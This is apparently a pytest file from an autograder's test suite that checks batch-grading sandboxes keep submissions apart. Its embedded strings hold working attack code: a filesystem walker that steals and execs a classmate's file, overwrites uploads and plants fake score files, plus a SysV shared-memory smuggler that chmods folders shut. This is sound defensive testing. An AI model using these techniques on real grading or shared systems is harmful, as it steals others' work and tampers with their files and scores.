"""Attacks that only make sense in a batch: one student's code going after another's.

The thief's intensity.py is the reference behind the attack corpus's gate (tests/self/attacks.py):
it works only if the thief finds a classmate's intensity.py (walking up from its own folder,
through /tmp where sandboxes live, through the class folder and the output folder: it is
told their paths, the worst case), copies it, and opens the gate. Meanwhile it tries to
sabotage: overwrite the classmates' uploads and plant results.json files in the output folder. The classmates are graded side by side with it (two jobs).
The thief must get 0, the victims full marks, and their files must be untouched.
"""

import json
import runpy
import subprocess
import sys
import uuid
from pathlib import Path

from grader.batch.output import read_json
from grader.paths import REFERENCE, ROOT
from seam.problems import touched
from tests.self.attacks import Attack, VEHICLE

THIEF = '''
import os, time
_MINE = os.path.realpath(__file__)


def _walk(top, depth=5, budget=[40000]):
    """Every intensity.py readable under top (bounded)."""
    found, stack = [], [(top, 0)]
    while stack and budget[0] > 0:
        folder, level = stack.pop()
        try:
            entries = list(os.scandir(folder))
        except OSError:
            continue
        for e in entries:
            budget[0] -= 1
            try:
                if e.is_dir(follow_symlinks=False) and level < depth and \\
                        e.path not in ("/proc", "/sys", "/dev", "/usr", "/lib", "/var", "/etc"):
                    stack.append((e.path, level + 1))
                elif e.name == "intensity.py" and os.path.realpath(e.path) != _MINE:
                    found.append(e.path)
            except OSError:
                pass
    return found


def _tops():
    """The class and the output first (what the test planted: a crowded /tmp, or a TMPDIR
    elsewhere, must not use up the walk's budget before them), then up from its own folder (to
    /tmp, where the sandboxes live), then /tmp."""
    d, tops = os.path.dirname(_MINE), []
    while d.startswith("/tmp/"):
        d = os.path.dirname(d)
        tops.append(d)
    return ["{SUBMISSIONS}", "{OUTDIR}"] + tops + ["/tmp"]


_loot = None
_until = time.monotonic() + {POLL}
while _loot is None and time.monotonic() < _until:
    for _path in {{p for top in _tops() for p in _walk(top)}}:
        try:
            _src = open(_path).read()
        except OSError:
            continue
        if "{MARK}" in _src and "ATTACK_WORKED" not in _src:  # a classmate's, not any copy
            _loot = _path, _src
            break
    if _loot is not None:
        break
    for _victim in ("b-victim0", "c-victim1"):  # sabotage: stubs in, a planted results.json
        for _target, _text in (("{SUBMISSIONS}/%s/intensity.py", "raise SystemExit('sabotaged')\\n"),
                               ("{OUTDIR}/%s/results.json", '{"score": 0, "execution_time": 0, '
                                                            '"output": "sabotaged", "tests": []}')):
            try:
                with open(_target % _victim, "w") as _f:
                    _f.write(_text)
            except OSError:
                pass
    time.sleep(0.2)
if _loot is not None:
    _stolen = {}
    exec(compile(_loot[1], _loot[0], "exec"), _stolen)
    globals().update({k: v for k, v in _stolen.items() if not k.startswith("__")})
    ATTACK_WORKED = True
'''


MARK = "# classmate " + uuid.uuid4().hex  # in the victims' files only: what the thief looks for


def victim(folder: Path) -> None:
    folder.mkdir(parents=True)
    (folder / f"{VEHICLE}.py").write_text((REFERENCE / f"{VEHICLE}.py").read_text() + "\n" + MARK + "\n")


def thief(klass: Path, out: Path, poll: float) -> Attack:
    code = THIEF.replace("{SUBMISSIONS}", str(klass)).replace("{OUTDIR}", str(out)).replace("{POLL}", str(poll))
    code = code.replace("{MARK}", MARK[:8] + '" "' + MARK[8:])  # never the mark itself in its own file
    code = code.replace("{{", "{").replace("}}", "}")
    return Attack("steal a classmate's code in a batch", code)


def test_a_student_cannot_reach_a_classmate_in_the_same_batch(tmp_path):
    klass, out = tmp_path / "class", tmp_path / "out"
    for name in ("b-victim0", "c-victim1"):
        victim(klass / name)
    thief(klass, out, poll=8.0).build(klass / "a-thief", tmp_path / "unused" / "results.json", 9)
    before = {p: p.read_bytes() for p in klass.rglob("*.py")}
    proc = subprocess.run([sys.executable, "-m", "grader", "batch", klass, "--out", out, "--jobs", "2",
                           "--only", VEHICLE, "--gpu", "skip", "--time-limit", "20"],
                          capture_output=True, text=True, cwd=ROOT, timeout=900)
    assert proc.returncode == 0, proc.stderr[-3000:]
    scores = {d: read_json(out / "students" / d / "results.json") for d in ("a-thief", "b-victim0", "c-victim1")}
    full = sum(t["max_score"] for t in scores["b-victim0"]["tests"])
    assert scores["a-thief"]["score"] == 0, "the thief got points: it reached a classmate's code"
    # it loaded and ran its search (its gate stayed shut), rather than failing to import; its exec
    # is a note for review, which takes no point: every test fails for its own work left undone
    stolen = scores["a-thief"]
    assert not stolen["extra_data"].get("honest_work"), stolen["extra_data"].get("honest_work")
    assert "code from text" in {n["kind"] for n in stolen["extra_data"]["review"]}
    assert all("_not_earned" in t["output"] for t in stolen["tests"]), [t["output"][:200] for t in stolen["tests"]]
    assert scores["b-victim0"]["score"] == scores["c-victim1"]["score"] == full > 0
    assert {p: p.read_bytes() for p in klass.rglob("*.py")} == before, "an upload was modified"
    assert sorted(p.name for p in out.iterdir()) == [".logs", "batch.json", "gradebook.csv", "report.html",
                                                     "report.json", "students"]
    assert sorted(p.name for p in (out / "students").iterdir()) == ["a-thief", "b-victim0", "c-victim1"]
    for d in scores:
        assert json.loads((out / "students" / d / "results.json").read_text()) == scores[d]


def test_control_the_thief_works_where_nothing_isolates_it(tmp_path):
    """Run in this (unsandboxed) process, the same module finds a classmate and opens its gate:
    so the 0 above is the sandbox's doing, not a broken attack."""
    klass = tmp_path / "class"
    victim(klass / "b-victim0")
    thief(klass, tmp_path / "out", poll=2.0).build(klass / "a-thief", tmp_path / "x" / "results.json", 9)
    module = runpy.run_path(str(klass / "a-thief" / f"{VEHICLE}.py"))
    assert module["ATTACK_WORKED"] is True
    assert module["ridge_point"](100.0, 4.0) == 25.0


SABOTEUR = '''
import ctypes, os, struct
_libc = ctypes.CDLL(None, use_errno=True)
_libc.shmat.restype = ctypes.c_void_p
_src = open(__file__).read().encode()
_id = _libc.shmget({KEY}, 1 << 16, 0o1666)            # publish its own code for a classmate
if _id >= 0:
    _at = _libc.shmat(_id, None, 0)
    if _at not in (None, ctypes.c_void_p(-1).value):
        ctypes.memmove(_at, struct.pack("=I", len(_src)) + _src, 4 + len(_src))
for _p in (os.path.dirname(os.path.abspath(__file__)), os.path.abspath(__file__), os.getcwd()):
    try:
        os.chmod(_p, 0)                                  # and shut the next students out
    except OSError:
        pass
'''

COPIER = '''
import ctypes, struct
_libc = ctypes.CDLL(None, use_errno=True)
_libc.shmat.restype = ctypes.c_void_p
_id = _libc.shmget({KEY}, 0, 0)
if _id >= 0:
    _at = _libc.shmat(_id, None, 0o10000)                # SHM_RDONLY
    if _at not in (None, ctypes.c_void_p(-1).value):
        _n = struct.unpack("=I", ctypes.string_at(_at, 4))[0]
        exec(compile(ctypes.string_at(_at + 4, _n).decode(), "smuggled", "exec"), globals())
'''


def test_one_job_leaves_nothing_for_the_next_student(tmp_path):
    """Three students in one job (one zygote, in order): the first publishes its code in SysV
    shared memory and chmods its folders to 0; the second is honest; the third uploads stubs
    that run whatever the first published. The honest one scores as when graded alone, the
    copier as its stubs do (0): nothing of one student reaches the next (the red team's batch-chmod-inbox-sabotage, sysv-code-smuggling)."""
    key = int(uuid.uuid4().hex[:7], 16)
    klass, out = tmp_path / "class", tmp_path / "out"
    Attack("publish, then shut the door", SABOTEUR.replace("{KEY}", str(key)) + "\nATTACK_WORKED = True\n").build(
        klass / "a-first", tmp_path / "x", 9)
    victim(klass / "b-honest")
    Attack("run a classmate's published code", COPIER.replace("{KEY}", str(key)), gated=False).build(
        klass / "c-copier", tmp_path / "x", 9)
    try:
        proc = subprocess.run([sys.executable, "-m", "grader", "batch", klass, "--out", out, "--jobs", "1",
                               "--only", VEHICLE, "--gpu", "skip", "--time-limit", "20"],
                              capture_output=True, text=True, cwd=ROOT, timeout=900)
    finally:
        subprocess.run(["ipcrm", "-M", str(key)], capture_output=True)  # what the old grader left
    assert proc.returncode == 0, proc.stderr[-3000:]
    scores = {d: read_json(out / "students" / d / "results.json") for d in ("a-first", "b-honest", "c-copier")}
    full = sum(t["max_score"] for t in scores["b-honest"]["tests"])
    # the first student's own (honest) code keeps every point: its ctypes is a note for review
    first = scores["a-first"]
    assert not first.get("extra_data", {}).get("honest_work")
    assert "ctypes" in {n["kind"] for n in first["extra_data"]["review"]}
    assert first["score"] == full > 0, "the first student's own (honest) code"
    assert scores["b-honest"]["score"] == full, [t["output"][:200] for t in scores["b-honest"]["tests"]]
    assert scores["c-copier"]["score"] == 0, "the copier ran a classmate's code from shared memory"
    copier = scores["c-copier"]
    unruled = [t for t in copier["tests"]
               if not touched(t["extra_data"]["functions"], copier.get("extra_data", {}).get("honest_work", {}))]
    assert unruled and "not implemented" in unruled[0]["output"].lower(), unruled[:1]  # its own stubs ran
    assert {d: read_json(out / "students" / d / "student.json")["status"] for d in scores} == dict.fromkeys(scores, "graded")
